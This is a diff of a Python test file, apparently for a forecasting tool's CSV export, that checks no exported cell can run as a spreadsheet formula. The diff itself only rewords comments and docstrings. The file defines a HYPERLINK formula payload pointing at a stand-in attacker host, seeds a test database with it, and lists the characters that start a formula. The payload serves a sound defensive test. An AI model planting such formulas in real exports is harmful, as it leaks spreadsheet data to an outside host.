@@ -1,4 +1,4 @@
-"""Cells that a spreadsheet would run as formulas: none leaves by CSV, from any command or question."""
+"""Cells that a spreadsheet would run as formulas: no command and no question writes one to CSV."""
 
 import csv
 import io
@@ -15,13 +15,13 @@ from candlecast.output import write_csv
 
 SERIES = "Coinbase_BTCUSD_d"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
-# What Excel, LibreOffice and Google's sheets take for the start of a formula.
+# Characters that Excel, LibreOffice and Google Sheets take for the start of a formula.
 STARTS = "=+-@＝＋－＠\t\r\n"
 
 
 @pytest.fixture(scope="module")
 def poisoned(daily_done, tmp_path_factory):
-    """An installation whose every free text begins like a formula."""
+    """An installation in which every free text begins like a formula."""
     installation = Installation(tmp_path_factory.mktemp("poisoned"), daily_done.prefect_home)
     shutil.copy(daily_done.database, installation.database)
     with sqlite3.connect(installation.database) as conn:
@@ -37,7 +37,7 @@ def poisoned(daily_done, tmp_path_factory):
             "SELECT series, model_version, decided_at, 'kept', ?, '{}' FROM promotions LIMIT 1",
             (EVIL,),
         )
-        # A model whose name is a formula, with forecasts and scores of its own.
+        # A model whose name is a formula, with forecasts and scores.
         conn.execute(
             "INSERT INTO forecasts SELECT id + 1000000, series, ?, model_version, origin, kind, created_at, "
             "data_fingerprint, flow_run FROM forecasts WHERE model = 'naive'",
@@ -55,7 +55,7 @@ def poisoned(daily_done, tmp_path_factory):
 
 
 def formula_cells(text: str) -> list[str]:
-    """The cells of a CSV that a spreadsheet would run; a number is none."""
+    """The cells of a CSV that a spreadsheet would run as formulas; numbers are not among them."""
 
     def runs(cell: str) -> bool:
         try:
